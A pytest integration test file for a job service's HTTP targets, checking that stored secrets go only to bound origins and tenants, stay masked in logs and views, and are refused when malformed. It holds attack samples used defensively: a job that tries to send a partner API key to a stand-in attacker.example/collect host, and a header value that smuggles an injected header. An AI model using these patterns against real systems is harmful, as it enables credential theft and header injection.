"""A deployment's secret, tried as an attacker with a tenant's own credentials would (issue 43,
defects 2, 3 and 4), through the real API handler, store, queues and worker (moto).

Names resolve through the test's fake resolver to local servers, and a connect anywhere but
loopback fails the test (:func:`~tests.integration.target_server.loopback_only`).
"""

from __future__ import annotations

import base64
import json
import logging
from collections.abc import Iterator
from dataclasses import replace
from typing import Any

import pytest

from leasehold.core.states import JobState
from leasehold.lifecycle.app import Leasehold
from leasehold.targets.config import TargetConfig
from leasehold.targets.failures import RequestRefused, SecretRefused
from leasehold.targets.http_call import Caller, call
from leasehold.targets.http_spec import prepare
from tests.conftest import MakeApp
from tests.integration.api_client import api_for
from tests.integration.helpers import whole_error
from tests.integration.target_server import Network, Request, Server, loopback_only, serve
from tests.integration.test_targets_http import run

SECRET = "s3cr3t-value-7d1f0c"
#: Basic credentials as a secret holds them: base64 of user:password.
CREDENTIALS = "svc-user:hunter2-pass-91"
BASIC = base64.b64encode(CREDENTIALS.encode()).decode()
#: Every text a stored or emitted thing must not contain.
FORBIDDEN = (SECRET, base64.b64encode(SECRET.encode()).decode(), BASIC, CREDENTIALS)


@pytest.fixture
def partner() -> Iterator[Server]:
    yield from serve()


@pytest.fixture
def attacker() -> Iterator[Server]:
    yield from serve()


@pytest.fixture
def network(monkeypatch: pytest.MonkeyPatch) -> Iterator[Network]:
    guarded = loopback_only(monkeypatch, {"api.partner.example": "127.0.0.1",
                                          "attacker.example": "127.0.0.1"})
    yield guarded
    assert guarded.refused == [], "something tried to leave loopback"


def port(server: Server) -> str:
    return server.url.rsplit(":", 1)[1]


def partner_url(server: Server, path: str = "/") -> str:
    return f"http://api.partner.example:{port(server)}{path}"


@pytest.fixture
def app(make_app: MakeApp, tmp_path: Any, partner: Server, network: Network) -> Leasehold:
    origin = partner_url(partner, "")
    made = make_app(
        targets={"http_allow": ["127.0.0.0/8"], "http_secrets": {
            "partner-api-key": {"secret": "secretsmanager:partner-api-key",
                                "origins": [origin]},
            "partner-basic": {"secret": "secretsmanager:partner-basic", "origins": [origin]},
            "acme-key": {"secret": "secretsmanager:partner-api-key", "origins": [origin],
                         "tenants": ["acme"]},
            "newline-key": {"secret": "secretsmanager:newline-key", "origins": [origin]}}},
        event_bus=f"file:{tmp_path / 'events.jsonl'}", publish="all")
    secrets = made.clients.client("secretsmanager")
    secrets.create_secret(Name="partner-api-key", SecretString=SECRET)
    secrets.create_secret(Name="partner-basic", SecretString=BASIC)
    # The common slip: a value pasted with its line's end.
    secrets.create_secret(Name="newline-key", SecretString=SECRET + "\n")
    return made


def stored_and_emitted(app: Leasehold, ids: list[str], tmp_path: Any,
                       caplog: pytest.LogCaptureFixture) -> dict[str, str]:
    """Every place a job's text is kept or shown: the rows, the tenant's job views (and
    their history), the events and the logs."""
    api = api_for(app)
    views = [api.get(f"/jobs/{job_id}", tenant="acme").body for job_id in ids]
    history = [api.get(f"/jobs/{job_id}/history", tenant="acme").body for job_id in ids]
    rows = app.clients.dynamodb.scan(TableName=app.settings.jobs_table)["Items"]
    events = tmp_path / "events.jsonl"
    return {"rows": json.dumps(rows), "views": json.dumps(views),
            "history": json.dumps(history),
            "events": events.read_text() if events.exists() else "", "logs": caplog.text}


def submit_as(app: Leasehold, tenant: str, http: dict[str, Any]) -> Any:
    return api_for(app).post("/jobs", {"target": {"http": http}, "max_attempts": 1},
                             tenant=tenant)


# -- defect 2: a secret goes only to the origins (and tenants) it is bound to ----------------

def test_the_partner_s_secret_is_refused_for_the_attacker_s_host_at_submission(
        app: Leasehold, partner: Server, attacker: Server) -> None:
    api = api_for(app)
    auth = {"secret_header": {"name": "X-Token", "secret": "partner-api-key"}}
    # The request, and the same through a server that would collect it.
    for url in ("https://attacker.example/collect",
                f"http://attacker.example:{port(attacker)}/collect"):
        reply = api.post("/jobs", {"target": {"http": {"url": url, "auth": auth}}},
                         tenant="mallory")
        assert reply.status == 422, reply.body
        text = json.dumps(reply.body)
        assert "partner-api-key" in text and "attacker.example" in text
        assert SECRET not in text
    run(app)
    assert app.clients.dynamodb.scan(TableName=app.settings.jobs_table)["Count"] == 0
    assert attacker.requests == [] and partner.requests == []
    # The bound origin is reached, with the value.
    made = api.post("/jobs", {"target": {"http": {"url": partner_url(partner, "/v1"),
                                                  "auth": auth}}}, tenant="mallory")
    assert made.status == 201, made.body
    run(app)
    assert partner.requests[0].headers["X-Token"] == SECRET


def test_a_secret_bound_to_a_tenant_is_refused_to_another(
        app: Leasehold, partner: Server) -> None:
    auth = {"secret_header": {"name": "X-Token", "secret": "acme-key"}}
    refused = submit_as(app, "globex", {"url": partner_url(partner), "auth": auth})
    assert refused.status == 422 and "acme-key" in json.dumps(refused.body)
    assert submit_as(app, "acme", {"url": partner_url(partner), "auth": auth}).status == 201
    run(app)
    assert [r.headers["X-Token"] for r in partner.requests] == [SECRET]


# -- defect 3: an echoing server never puts a value into what is stored or emitted ----------

def echo(status: int) -> Any:
    def answer(request: Request) -> tuple[int, dict[str, str], bytes]:
        sent = request.headers.get("Authorization", "")
        token = sent.split(" ", 1)[-1]
        body = {"you_sent": request.headers, "base64": base64.b64encode(
            token.encode()).decode()}
        if sent.startswith("Basic "):
            body["decoded"] = base64.b64decode(token).decode()
        return status, {"Content-Type": "application/json",
                        "ETag": base64.b64encode(token.encode()).decode()}, \
            json.dumps(body).encode()
    return answer


@pytest.mark.parametrize("status", [200, 400])
def test_an_echoing_server_puts_no_secret_value_into_the_row_view_events_or_logs(
        app: Leasehold, partner: Server, tmp_path: Any, caplog: pytest.LogCaptureFixture,
        status: int) -> None:
    caplog.set_level(logging.DEBUG)
    partner.default = echo(status)
    ids = [submit_as(app, "acme", {"url": partner_url(partner), "method": "POST",
                                   "body": {"a": 1}, "auth": {"secret_header": {
                                       "name": "Authorization", "secret": secret,
                                       "prefix": prefix}}}).body["job_id"]
           for secret, prefix in (("partner-api-key", "Bearer "), ("partner-basic", "Basic "))]
    run(app)
    assert partner.requests[0].headers["Authorization"] == f"Bearer {SECRET}"
    assert partner.requests[1].headers["Authorization"] == f"Basic {BASIC}"
    jobs = [app.store.get(job_id) for job_id in ids]
    assert all(job.state is (JobState.SUCCEEDED if status == 200 else JobState.DEAD)
               for job in jobs)
    if status == 200:  # the echo is kept, masked
        result = json.loads(jobs[0].result_json or "null")
        assert result["body"]["you_sent"]["Authorization"] == "Bearer [REDACTED]"
    else:  # the error quotes the body, masked
        assert jobs[0].error is not None and "[REDACTED]" in whole_error(app, jobs[0]).message
    for place, text in stored_and_emitted(app, ids, tmp_path, caplog).items():
        for value in FORBIDDEN:
            assert value not in text, f"{value!r} in the {place}"


# -- defect 4: a value no header may carry fails, naming the secret, never the value ---------

def test_a_secret_with_a_trailing_newline_fails_once_naming_it_and_not_its_value(
        app: Leasehold, partner: Server, tmp_path: Any,
        caplog: pytest.LogCaptureFixture) -> None:
    caplog.set_level(logging.DEBUG)
    reply = api_for(app).post("/jobs", {"target": {"http": {
        "url": partner_url(partner), "auth": {"secret_header": {
            "name": "Authorization", "secret": "newline-key", "prefix": "Bearer "}}}}},
        tenant="acme")
    run(app)
    job = app.store.get(reply.body["job_id"])
    assert job.state is JobState.DEAD and job.attempt == 1  # not retried
    assert job.error is not None and job.error.type == "SecretRefused"
    assert "newline-key" in job.error.message and "line break" in job.error.message
    assert partner.requests == []  # nothing was sent
    for place, text in stored_and_emitted(app, [job.job_id], tmp_path, caplog).items():
        assert SECRET not in text, f"the value is in the {place}"


def test_a_header_http_client_refuses_is_a_failure_that_does_not_quote_it(
        partner: Server, network: Network) -> None:
    # A signature is made only for a listed prefix, under a targets role.
    config = replace(TargetConfig.parse({
        "http_allow": ["127.0.0.0/8"],
        "http_sigv4": [{"url_prefix": partner_url(partner), "service": "execute-api"}]}),
        role_arn="arn:aws:iam::123456789012:role/lh-targets")
    payload, _ = prepare(config, {"url": partner_url(partner),
                                  "auth": {"sigv4": {"service": "execute-api"}}})
    caller = Caller(config, now_ms=lambda: 0,
                    sign=lambda *args: {"X-Signed": f"{SECRET}\r\nX-Injected: 1"})
    with pytest.raises(RequestRefused) as caught:
        call(caller, payload)
    assert SECRET not in str(caught.value) and caught.value.__cause__ is None
    assert partner.requests == []


def test_a_secret_rebound_since_the_submission_is_refused_at_run_time(
        partner: Server, network: Network) -> None:
    """A schedule keeps its checked payload: the deployment may have rebound the secret
    since. The call checks the origin and the tenant again before the value is read."""
    def bound(origins: list[str], tenants: list[str] | None = None) -> TargetConfig:
        entry: dict[str, Any] = {"secret": "secretsmanager:partner-api-key",
                                 "origins": origins}
        if tenants is not None:
            entry["tenants"] = tenants
        return TargetConfig.parse({"http_allow": ["127.0.0.0/8"],
                                   "http_secrets": {"partner-api-key": entry}})

    then = bound([partner_url(partner, "")])
    payload, _ = prepare(then, {"url": partner_url(partner), "auth": {"secret_header": {
        "name": "X-Token", "secret": "partner-api-key"}}}, "acme")
    read: list[str] = []

    def secret(name: str) -> str:
        read.append(name)
        return SECRET

    for now, tenant, why in ((bound(["https://api.partner.example"]), "acme", "may not be sent"),
                             (bound([partner_url(partner, "")], ["globex"]), "acme",
                              "not granted to tenant 'acme'")):
        with pytest.raises(SecretRefused, match=why):
            call(Caller(now, now_ms=lambda: 0, secret=secret), payload, tenant=tenant)
    assert read == [] and partner.requests == []
    assert call(Caller(then, now_ms=lambda: 0, secret=secret), payload,
                tenant="acme")["status"] == 200
    assert partner.requests[0].headers["X-Token"] == SECRET
